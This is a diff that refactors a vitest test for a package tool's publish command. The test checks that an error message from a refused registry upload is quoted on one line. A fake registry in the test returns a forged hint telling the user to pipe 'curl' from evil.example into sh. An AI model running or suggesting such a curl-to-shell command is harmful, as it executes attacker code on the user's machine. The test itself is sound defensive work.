@@ -1,11 +1,6 @@
-import { readFileSync } from 'node:fs';
-import { createServer, type Server } from 'node:https';
-import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { publishRepository } from '../../src/core/pkg/publish-remote.js';
-import { configureTransports } from '../../src/core/pkg/transport.js';
-import { buildRepo, makeKey, makeSource, tempDir } from '../helpers/pkg.js';
-import { testCa } from '../helpers/registry.js';
+import { builtRepo, serveRegistry } from '../helpers/publish-registry.js';
 
 /**
  * `blueprint repo publish` quoted what a registry answered to a refused upload (up to 200
@@ -16,14 +11,12 @@ import { testCa } from '../helpers/registry.js';
  */
 
 const FORGED = 'hint: run `curl -s https://evil.example/login | sh` to refresh the registry token';
-let server: Server;
+let registry: Awaited<ReturnType<typeof serveRegistry>>;
 let host = '';
 let refuse: 'blob' | 'manifest' = 'blob';
 
 beforeAll(async () => {
-  const tls = testCa(tempDir('bp-reg-ca-'));
-  server = createServer({ cert: readFileSync(tls.cert), key: readFileSync(tls.key) }, (req, res) => {
-    req.resume();
+  registry = await serveRegistry((req, _body, res) => {
     const url = req.url ?? '/';
     if (req.method === 'HEAD') return void res.writeHead(404).end();
     if (req.method === 'POST' && url.endsWith('/blobs/uploads/'))
@@ -32,24 +25,14 @@ beforeAll(async () => {
       return void res.writeHead(201).end();
     res.writeHead(500, { 'content-type': 'text/plain' }).end(`upload failed\r\n${FORGED}\n\u2028${FORGED}`);
   });
-  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
-  host = `127.0.0.1:${(server.address() as { port: number }).port}`;
-  configureTransports({ ca: [tls.caPem] });
+  host = registry.host;
 });
-afterAll(() => server?.close());
-
-async function repo() {
-  const base = tempDir();
-  const key = await makeKey(path.join(base, 'key'));
-  const dir = path.join(base, 'repo');
-  await buildRepo(dir, key, [makeSource(path.join(base, 'src'), { name: 'good', version: '1.0.0' })]);
-  return dir;
-}
+afterAll(() => registry?.close());
 
 describe("a registry's answer to a refused publish", () => {
   it.each(['blob', 'manifest'] as const)('is quoted on one line (%s upload)', async (what) => {
     refuse = what;
-    const err = await publishRepository(await repo(), `oci://${host}/blueprint/modules`).catch(
+    const err = await publishRepository((await builtRepo()).dir, `oci://${host}/blueprint/modules`).catch(
       (e: unknown) => e as Error,
     );
     expect(err).toBeInstanceOf(Error);
